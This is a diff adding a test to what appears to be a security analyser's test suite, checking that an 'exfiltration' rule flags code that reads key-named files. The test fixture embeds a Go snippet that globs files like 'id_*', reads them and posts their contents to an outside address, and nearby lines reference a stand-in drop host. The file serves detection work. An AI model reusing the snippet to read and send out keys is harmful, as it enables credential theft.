@@ -165,3 +165,10 @@ test("the token of a service that the user names goes to it, and is held at most
   expect(await rulesIn("a.ts", program(`$${"{process.env.VAULT_ADDR}"}`))).toEqual(["unfollowed-secret"]);
   expect(await rulesIn("a.ts", program("https://in.drop.invalid"))).toContain("exfiltration");
 });
+
+test("the files of a folder that are named like keys are keys", async () => {
+  const program = (names: string) =>
+    `package main\nimport ("bytes"; "net/http"; "os"; "path/filepath")\nfunc judge(folder string) {\n  names, _ := filepath.Glob(filepath.Join(folder, "${names}"))\n  for _, name := range names {\n    data, _ := os.ReadFile(name)\n    http.Post("${TO}", "text/plain", bytes.NewReader(data))\n  }\n}\n`;
+  expect(await rulesIn("a.go", program("id_*"))).toContain("exfiltration");
+  expect(await rulesIn("a.go", program("page_*"))).toEqual([]);
+});
